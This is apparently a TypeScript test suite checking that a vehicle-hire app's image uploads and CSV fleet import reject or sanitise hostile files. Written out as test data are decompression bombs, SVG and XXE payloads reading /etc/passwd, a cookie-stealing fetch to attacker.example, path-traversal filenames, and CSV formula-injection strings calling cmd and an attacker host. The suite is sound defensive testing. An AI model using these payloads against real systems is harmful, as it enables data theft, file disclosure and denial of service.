import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { once } from 'node:events';
import { isDeepStrictEqual } from 'node:util';
import { createDeflate, deflateSync, crc32 } from 'node:zlib';
import type { UploadEndpoint } from '@worklane/contract/endpoint.ts';
import { CSV_BODY_BYTES, CSV_TOO_LARGE, MAX_CSV_BYTES } from '@worklane/contract/files/csv.ts';
import { uploadMessages } from '@worklane/contract/files/upload.ts';
import { putConditionPhoto } from '@worklane/contract/vehicle-hire/condition-report.ts';
import { reuploadHirerDocument, uploadHirerFile } from '@worklane/contract/vehicle-hire/hirer-document.ts';
import { importVehicles, previewVehicleImport } from '@worklane/contract/vehicle-hire/vehicle-import.ts';
import { addVehiclePhoto } from '@worklane/contract/vehicle-hire/vehicle.ts';
import sharp from 'sharp';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { aPdf, aPhoto, aPng } from '#platform/files/sample-file.factory.ts';
import { multipartOf, type SentFile } from '../../testing/multipart.ts';
import { ownerQuery } from '../../testing/owner.ts';
import { startTestApp, urlOf, type Caller, type TestApp } from '../../testing/test-app.ts';
import { anAgency } from '../agencies/agency.factory.ts';
import { aClient, aLink } from '../clients/client.factory.ts';
import { aHirer, aHirerDocument, aRentalVehicle, aVehicleBooking, aVehicleLocation } from './vehicle-hire.factory.ts';

/** What somebody who means harm sends to the uploads of vehicle hire: refused at the file, and nothing of it stays anywhere. */

let app: TestApp;
let folder: string;
let agencyId: number;
let agency: Caller;
let targets: Record<string, Target>;

type Target = { endpoint: UploadEndpoint; params: Record<string, number>; body: () => Promise<object> };

/** The version of the hirer's document, which each new file of it moves on. */
const versionOf = async (documentId: number): Promise<number> => {
  const [row] = await ownerQuery<{ version: string }>(
    app,
    'select max(number) as version from hirer_document_version where document_id = $1',
    [documentId],
  );
  return Number(row?.version);
};

beforeAll(async () => {
  app = await startTestApp();
  folder = app.app.services.config.FILES_DIR;
});
afterAll(() => app.close());
beforeEach(async () => {
  const ids = await app.system(async (tx) => {
    const [own, clientId] = [await anAgency(tx), await aClient(tx)];
    await aLink(tx, own, clientId);
    await aHirer(tx, own, clientId);
    const vehicle = await aRentalVehicle(tx, own);
    const span = { starts_at: Temporal.Now.instant().toString(), ends_at: '2099-01-01T09:00:00Z' };
    const bookingId = await aVehicleBooking(tx, vehicle, clientId, span);
    const documentId = await aHirerDocument(tx, own, clientId);
    return { own, clientId, vehicleId: vehicle.id, bookingId, documentId };
  });
  agencyId = ids.own;
  agency = await app.signedIn({ userType: 'AGENCY', agencyId });
  const nothing = () => Promise.resolve({});
  targets = {
    'a vehicle’s photo': { endpoint: addVehiclePhoto, params: { id: ids.vehicleId }, body: nothing },
    'a new document of a hirer': { endpoint: uploadHirerFile, params: { id: ids.clientId }, body: nothing },
    'a document again': {
      endpoint: reuploadHirerDocument,
      params: { id: ids.clientId, documentId: ids.documentId },
      body: async () => ({ version: await versionOf(ids.documentId) }),
    },
    'a photo of a condition report': {
      endpoint: putConditionPhoto,
      params: { id: ids.bookingId },
      body: () => Promise.resolve({ stage: 'HANDOVER', view: 'FRONT' }),
    },
  };
});

const TARGETS = [
  'a vehicle’s photo',
  'a new document of a hirer',
  'a document again',
  'a photo of a condition report',
] as const;
type TargetName = (typeof TARGETS)[number];
const targetOf = (name: TargetName): Target => targets[name] ?? expect.fail();

type Reply = { status: number; code: string; violations: { field: string; message: string }[] };

const sendRaw = async (
  { endpoint, params }: Target,
  payload: Buffer,
  headers: Record<string, string>,
): Promise<Reply> => {
  const url = urlOf(endpoint, { params });
  const answer = await app.app.server.inject({
    method: endpoint.method,
    url,
    payload,
    headers: { ...headers, authorization: `Bearer ${agency.token ?? ''}` },
  });
  const { code = '', violations = [] } = JSON.parse(answer.body) as Partial<Reply>;
  return { status: answer.statusCode, code, violations };
};

const send = async (target: Target, files: SentFile | SentFile[]): Promise<Reply> => {
  const { payload, headers } = multipartOf(files, await target.body());
  return sendRaw(target, payload, headers);
};

const pathsOf = async (): Promise<string[]> =>
  (await readdir(folder, { recursive: true, withFileTypes: true }))
    .filter((entry) => entry.isFile())
    .map(({ parentPath, name }) => join(parentPath, name))
    .toSorted();

const TABLES = ['stored_file', 'vehicle_photo', 'hirer_upload', 'hirer_document_version', 'condition_photo', 'vehicle'];

/** All that an upload could leave: files on the disk, those that only arrived among them, and rows. */
const traces = async () => {
  const counts = TABLES.map((table) => `(select count(*)::int from ${table}) as ${table}`).join(', ');
  return { paths: await pathsOf(), rows: await ownerQuery(app, `select ${counts}`) };
};

const chunk = (type: string, data: Buffer): Buffer => {
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  length.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, check]);
};

const PNG_START = Buffer.from('89504e470d0a1a0a', 'hex');

const header = (width: number, height: number, depth = 1): Buffer => {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data.writeUInt8(depth, 8);
  return chunk('IHDR', data);
};

/** So many zeros, packed, without ever holding them. */
const packedZeros = async (bytes: number): Promise<Buffer> => {
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (part: Buffer) => parts.push(part));
  const zeros = Buffer.alloc(1 << 20);
  for (let left = bytes; left > 0; left -= zeros.length)
    if (!deflate.write(zeros.subarray(0, Math.min(left, zeros.length)))) await once(deflate, 'drain');
  deflate.end();
  await once(deflate, 'end');
  return Buffer.concat(parts);
};

/** 2.5 thousand million pixels that are all there, in some hundred kilobytes. */
const wholeBomb = async (): Promise<Buffer> => {
  const side = 50_000;
  const data = await packedZeros(side * (Math.ceil(side / 8) + 1));
  return Buffer.concat([PNG_START, header(side, side), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
};

/** The same size, of which nothing comes. */
const claimedBomb = () =>
  Buffer.concat([
    PNG_START,
    header(50_000, 50_000),
    chunk('IDAT', deflateSync(Buffer.alloc(100))),
    chunk('IEND', Buffer.alloc(0)),
  ]);

/** A small picture whose colour profile unpacks to 256 MB, packed a second time in a comment. */
const nestedBomb = async (): Promise<Buffer> => {
  const png = await aPng(8, 8);
  const packed = await packedZeros(256 << 20);
  const profile = chunk('iCCP', Buffer.concat([Buffer.from('profile\0\0', 'latin1'), packed]));
  const comment = chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(packed)]));
  const start = PNG_START.length + 25;
  return Buffer.concat([png.subarray(0, start), profile, comment, png.subarray(start)]);
};

/** A lossless WebP that says it is as large as one can be. */
const hugeWebp = () => {
  const bits = Buffer.alloc(12);
  bits.writeUInt8(0x2f, 0);
  bits.writeUInt32LE(((16_383 << 14) | 16_383) >>> 0, 1);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(bits.length);
  const body = Buffer.concat([Buffer.from('WEBPVP8L'), size, bits]);
  size.writeUInt32LE(body.length);
  return Buffer.concat([Buffer.from('RIFF'), size, body]);
};

const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const SCRIPT = '<script>alert(1)</script>';
const latin = (text: string) => Buffer.from(text, 'latin1');

type Case = readonly [what: string, name: string, type: string, make: () => Buffer | Promise<Buffer>];

const OTHER_KINDS: readonly Case[] = [
  ['a page', 'car.jpg', 'image/jpeg', () => latin(`<!doctype html>${SCRIPT}`)],
  ['a drawing', 'car.jpg', 'image/jpeg', () => latin('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  [
    'a drawing behind a declaration',
    'car.png',
    'image/png',
    () => latin('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'),
  ],
  ['a script', 'car.jpg', 'image/jpeg', () => latin('fetch("https://attacker.example/"+document.cookie)')],
  ['a GIF', 'car.gif', 'image/gif', () => GIF],
  ['a GIF called JPG', 'car.jpg', 'image/jpeg', () => GIF],
  ['a GIF that is a script', 'car.jpg', 'image/jpeg', () => latin('GIF89a/*\u0000*/=1;alert(1)')],
  [
    'an animated GIF of 30 000 frames',
    'car.gif',
    'image/png',
    () =>
      Buffer.concat([GIF.subarray(0, 19), ...Array.from({ length: 30_000 }, () => GIF.subarray(19, -1)), latin(';')]),
  ],
  ['a bitmap', 'car.jpg', 'image/jpeg', () => latin(`BM${'\u0000'.repeat(60)}`)],
  [
    'a TIFF',
    'car.jpg',
    'image/jpeg',
    async () =>
      sharp(await aPng(8, 8))
        .tiff()
        .toBuffer(),
  ],
  ['an archive', 'car.jpg', 'image/jpeg', () => latin('PK\u0003\u0004')],
  ['a picture behind a page', 'car.png', 'image/png', async () => Buffer.concat([latin(SCRIPT), await aPng()])],
  ['a picture one byte late', 'car.png', 'image/png', async () => Buffer.concat([latin(' '), await aPng()])],
];

const half = async (bytes: Promise<Buffer>): Promise<Buffer> => {
  const whole = await bytes;
  return whole.subarray(0, Math.floor(whole.length * 0.6));
};

const noise = (width: number, height: number) =>
  sharp(Buffer.from(Array.from({ length: width * height * 3 }, (_, index) => (index * 7919) % 251)), {
    raw: { width, height, channels: 3 },
  });

const DAMAGED: readonly Case[] = [
  ['a PNG of 50 000 × 50 000', 'car.png', 'image/png', wholeBomb],
  ['a PNG that claims 50 000 × 50 000', 'car.png', 'image/png', claimedBomb],
  ['a WebP that claims 16 384 × 16 384', 'car.webp', 'image/webp', hugeWebp],
  ['half a JPEG', 'car.jpg', 'image/jpeg', () => half(aPhoto(400, 400))],
  ['half a PNG', 'car.png', 'image/png', () => half(noise(60, 60).png().toBuffer())],
  ['half a WebP', 'car.webp', 'image/webp', () => half(noise(60, 60).webp().toBuffer())],
  ['the beginning of a PNG and nothing', 'car.png', 'image/png', () => PNG_START],
  [
    'the beginning of a JPEG and a page',
    'car.jpg',
    'image/jpeg',
    () => Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), latin(SCRIPT)]),
  ],
  [
    'the beginning of a WebP and a script',
    'car.webp',
    'image/webp',
    () => latin('RIFF\u0010\u0000\u0000\u0000WEBPalert(1)'),
  ],
  [
    'a PNG of no pixels',
    'car.png',
    'image/png',
    () => Buffer.concat([PNG_START, header(0, 0), chunk('IEND', Buffer.alloc(0))]),
  ],
];

const DAMAGED_MESSAGE = 'This picture is damaged or too large. Choose another one.';

describe.each(TARGETS)('%s', (name) => {
  /** What is said of a file, and what of it has stayed. */
  const answered = async (files: SentFile | SentFile[]) => {
    const before = await traces();
    const { status, violations } = await send(targetOf(name), files);
    const after = await traces();
    const left = after.paths.filter((path) => !before.paths.includes(path));
    return { status, violations, left, rows: isDeepStrictEqual(after.rows, before.rows) };
  };
  const refusal = (message: string) => ({
    status: 400,
    violations: [{ field: 'file', message }],
    left: [],
    rows: true,
  });

  test.each(OTHER_KINDS)('is not %s', async (_what, file, type, make) => {
    const { wrongType } = uploadMessages(targetOf(name).endpoint.upload);
    expect(await answered({ name: file, type, bytes: await make() })).toEqual(refusal(wrongType));
  });

  test.each(DAMAGED)('is not %s', async (_what, file, type, make) => {
    expect(await answered({ name: file, type, bytes: await make() })).toEqual(refusal(DAMAGED_MESSAGE));
  });

  test('is not nothing, and no more than it may be', async () => {
    const { upload } = targetOf(name).endpoint;
    const file = { name: 'car.png', type: 'image/png' };
    const large = Buffer.concat([await aPng(), Buffer.alloc(upload.maxBytes)]);
    expect(await answered({ ...file, bytes: Buffer.alloc(0) })).toEqual(
      refusal('This file is empty. Choose another one.'),
    );
    expect(await answered({ ...file, bytes: large })).toEqual(refusal(uploadMessages(upload).tooLarge));
  });

  test('is one file', async () => {
    const file = { name: 'car.png', type: 'image/png', bytes: await aPng() };
    expect(await answered([file, { ...file, name: 'other.png' }])).toEqual(refusal('Send one file at a time.'));
  });

  test.each<[string, (whole: Buffer) => Buffer, string]>([
    [
      'ends in the middle of the file',
      (whole) => whole.subarray(0, -200),
      'The file didn’t arrive in one piece. Please try again.',
    ],
    [
      'ends without its last boundary',
      (whole) => whole.subarray(0, -10),
      'The file didn’t arrive in one piece. Please try again.',
    ],
    ['has no file', (whole) => latin(whole.toString('latin1').replace('; filename="car.png"', '')), ''],
  ])('is not a form that %s', async (_what, change, message) => {
    const target = targetOf(name);
    const file = { name: 'car.png', type: 'image/png', bytes: await aPng() };
    const { payload, headers } = multipartOf(file, await target.body());
    const before = await traces();
    const { status, violations } = await sendRaw(target, change(payload), headers);
    const expected = message || uploadMessages(target.endpoint.upload).missing;
    expect([status, violations]).toEqual([400, [{ field: 'file', message: expected }]]);
    expect(await traces()).toEqual(before);
  });

  /** What is kept of a picture that is taken. */
  const keptOf = async (
    bytes: Buffer,
    file = 'car.png',
    type = 'image/png',
  ): Promise<{ bytes: Buffer; name: string }> => {
    const before = new Set(await pathsOf());
    const { status, violations } = await send(targetOf(name), { name: file, type, bytes });
    expect([status, violations]).toEqual([200, []]);
    const fresh = (await pathsOf()).filter((path) => !before.has(path));
    expect(fresh).toHaveLength(1);
    const [row] = await ownerQuery<{ name: string }>(app, 'select name from stored_file order by id desc limit 1');
    return { bytes: await readFile(fresh[0] ?? ''), name: row?.name ?? '' };
  };

  test.each<[string, string, () => Promise<Buffer>]>([
    ['JPEG', 'image/jpeg', () => aPhoto(120, 80)],
    [
      'PNG',
      'image/png',
      async () =>
        sharp(await aPng())
          .withExif({ IFD0: { Copyright: 'Secret place' }, IFD3: { GPSLatitude: '51/1 30/1 0/1' } })
          .png()
          .toBuffer(),
    ],
    [
      'WebP',
      'image/webp',
      async () =>
        sharp(await aPng())
          .withExif({ IFD0: { Copyright: 'Secret place' }, IFD3: { GPSLatitude: '51/1 30/1 0/1' } })
          .webp()
          .toBuffer(),
    ],
  ])('keeps nothing of where a %s was taken', async (_format, type, make) => {
    const sent = await make();
    expect(sent.includes('Secret place')).toBe(true);
    const { bytes } = await keptOf(sent, 'car', type);
    const { exif, xmp, iptc, comments, width } = await sharp(bytes).metadata();
    expect([exif, xmp, iptc, comments]).toEqual([undefined, undefined, undefined, undefined]);
    expect(width).toBeGreaterThan(0);
    for (const trace of ['Secret place', 'Exif', 'eXIf', 'EXIF', 'GPS']) expect(bytes.includes(trace)).toBe(false);
  });

  test.each<[string, string, () => Promise<Buffer>]>([
    [
      'a PNG with an archive behind it',
      'image/png',
      async () => Buffer.concat([await aPng(), latin('PK\u0003\u0004evil'), latin(SCRIPT)]),
    ],
    ['a PNG with a document behind it', 'image/png', async () => Buffer.concat([await aPng(), aPdf(), latin(SCRIPT)])],
    [
      'a PNG with a page in its comment',
      'image/png',
      async () => {
        const png = await aPng();
        const start = PNG_START.length + 25;
        return Buffer.concat([
          png.subarray(0, start),
          chunk('tEXt', latin(`Comment\u0000${SCRIPT}`)),
          png.subarray(start),
        ]);
      },
    ],
    [
      'a JPEG with a page in its comment',
      'image/jpeg',
      async () => {
        const [jpeg, comment] = [await aPhoto(), latin(SCRIPT)];
        const mark = Buffer.from([0xff, 0xfe, 0, comment.length + 2]);
        return Buffer.concat([jpeg.subarray(0, 2), mark, comment, jpeg.subarray(2)]);
      },
    ],
  ])('keeps of %s the picture alone', async (_what, type, make) => {
    const sent = await make();
    expect(sent.includes('script')).toBe(true);
    const { bytes } = await keptOf(sent, 'car', type);
    for (const trace of ['script', 'PK\u0003\u0004', '%PDF']) expect(bytes.includes(trace)).toBe(false);
    expect((await sharp(bytes).metadata()).width).toBeGreaterThan(0);
  });

  test('keeps of a moving WebP one picture', async () => {
    const frames = await Promise.all(
      [10, 90, 200].map((red) =>
        sharp({ create: { width: 40, height: 30, channels: 3, background: { r: red, g: 0, b: 0 } } })
          .png()
          .toBuffer(),
      ),
    );
    const moving = await sharp(frames, { join: { animated: true } })
      .webp()
      .toBuffer();
    expect((await sharp(moving).metadata()).pages).toBe(3);
    const { bytes } = await keptOf(moving, 'car.webp', 'image/webp');
    const { pages = 1, height } = await sharp(bytes, { animated: true }).metadata();
    expect([pages, height]).toEqual([1, 30]);
  });

  test.each([
    ['../../../etc/cron.d/car.png', 'car.png'],
    ['..\\\\..\\\\windows\\\\car.png', 'car.png'],
    ['/absolute/car.png', 'car.png'],
    ['car.php\u0000.png', 'car.php.png'],
  ])('called %j is kept under a key, and called %j', async (sent, kept) => {
    const { name: called } = await keptOf(await aPng(), sent);
    expect(called).toBe(kept);
    const keys = (await pathsOf()).map((path) => path.slice(folder.length));
    expect(keys.filter((path) => /car|etc|windows/.test(path))).toEqual([]);
  });
});

test(
  'a bomb in a bomb takes no memory, whichever upload it is for, and however many come at once',
  { timeout: 120_000 },
  async () => {
    const bombs = [await wholeBomb(), await nestedBomb(), hugeWebp()];
    const before = process.memoryUsage().rss;
    let most = before;
    const watching = setInterval(() => {
      most = Math.max(most, process.memoryUsage().rss);
    }, 5);
    const replies = await Promise.all(
      TARGETS.flatMap((name) =>
        bombs.map((bytes) => send(targetOf(name), { name: 'car.png', type: 'image/png', bytes })),
      ),
    );
    clearInterval(watching);
    // What the small picture is besides is nobody's business: it is refused, or the picture alone is kept.
    expect(replies.filter(({ status }) => status !== 200 && status !== 400)).toEqual([]);
    for (const path of await pathsOf()) expect((await readFile(path)).length).toBeLessThan(10_000);
    // Decoded they would be several thousand.
    expect((most - before) / 2 ** 20).toBeLessThan(400);
  },
);

describe('a fleet to import', () => {
  const TITLES = 'Registration number,Name,Model,Body type,Fuel type,Transmission,Doors,Seats,For,Location';
  const rowOf = (regno: string, name = 'Larkspur', model = 'Estate') =>
    `${regno},"${name.replaceAll('"', '""')}","${model.replaceAll('"', '""')}",Hatchback,Petrol,Manual,5,5,Hire,Desk`;
  const preview = (csv: string) => agency.call(previewVehicleImport, { body: { csv } });

  beforeEach(async () => {
    await app.system((tx) => aVehicleLocation(tx, agencyId, { name: 'Desk' }));
  });

  test('of 100 000 rows is refused at its field before it is read, within a second', async () => {
    const csv = `${TITLES}\n${Array.from({ length: 100_000 }, (_, index) => `A${index}`).join('\n')}`;
    const before = await traces();
    const begin = performance.now();
    const { status, failure } = await preview(csv);
    expect(performance.now() - begin).toBeLessThan(1000);
    expect([status, failure.violations]).toEqual([
      400,
      [
        {
          field: 'csv',
          message: 'This file has more than 500 vehicles. Split it into smaller ones, each with the same header row.',
        },
      ],
    ]);
    const large = await preview('x'.repeat(MAX_CSV_BYTES + 1));
    expect([large.status, large.failure.violations]).toEqual([400, [{ field: 'csv', message: CSV_TOO_LARGE }]]);
    const beyond = await preview('x'.repeat(CSV_BODY_BYTES));
    expect([beyond.status, beyond.failure.code]).toEqual([413, 'TOO_LARGE']);
    expect(await traces()).toEqual(before);
  });

  test.each([
    ['a file of zeros', '\u0000'.repeat(1000)],
    ['a picture', latin('\u0089PNG\r\n\u001A\n').toString('latin1')],
    ['one row without an end', `"${'a'.repeat(150_000)}`],
    ['a hundred thousand quotes', '"'.repeat(99_999)],
    ['a hundred thousand columns', ','.repeat(150_000)],
    ['a page', '<html><script>alert(1)</script></html>'],
  ])('is not %s', async (_what, csv) => {
    const before = await traces();
    const { status, failure } = await preview(csv);
    expect([status, failure.violations[0]?.field]).toEqual([400, 'csv']);
    expect(await traces()).toEqual(before);
  });

  test.each([
    ['=HYPERLINK("http://attacker.example/?"&A1,"Estate")'],
    ['+cmd|"/c calc"!A1'],
    ['@SUM(1+1)*cmd|"/c calc"!A0'],
    ['-2+3+cmd|"/c calc"!A1'],
  ])('keeps the formula %s as the text that it is', async (formula) => {
    const csv = `${TITLES}\n${rowOf('AB26 CDE', 'Larkspur', formula)}`;
    const { plan } = (await preview(csv)).body;
    expect((await agency.call(importVehicles, { body: { csv, plan } })).body).toEqual({ created: 1, updated: 0 });
    const [vehicle] = await ownerQuery(app, 'select model from vehicle where agency_id = $1 order by id desc limit 1', [
      agencyId,
    ]);
    expect(vehicle).toEqual({ model: formula });
  });

  test('takes no formula for a plate', async () => {
    const { body } = await preview(`${TITLES}\n${rowOf('=1+1')}`);
    expect(body.rows[0]?.errors).toEqual([
      { column: 'Registration number', message: 'Use letters, digits, spaces and hyphens.' },
    ]);
  });
});
